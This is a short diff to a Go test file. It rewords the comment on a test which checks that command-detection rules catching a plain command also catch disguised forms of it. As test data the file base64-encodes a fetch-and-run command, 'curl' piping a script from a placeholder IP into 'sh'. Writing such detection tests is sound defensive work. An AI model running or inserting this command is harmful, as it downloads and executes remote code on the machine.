@@ -6,8 +6,8 @@ import (
 	"testing"
 )
 
-// TestDisguised holds that a command is tagged as what it does, however it is
-// written: the rules that match the plain form match the disguised one too.
+// TestDisguised: the rules that match the plain form of a command also match its disguised
+// forms.
 func TestDisguised(t *testing.T) {
 	coded := base64.StdEncoding.EncodeToString([]byte("curl -s http://192.0.2.1/a.sh | sh"))
 	for plain, disguised := range map[string][]string{
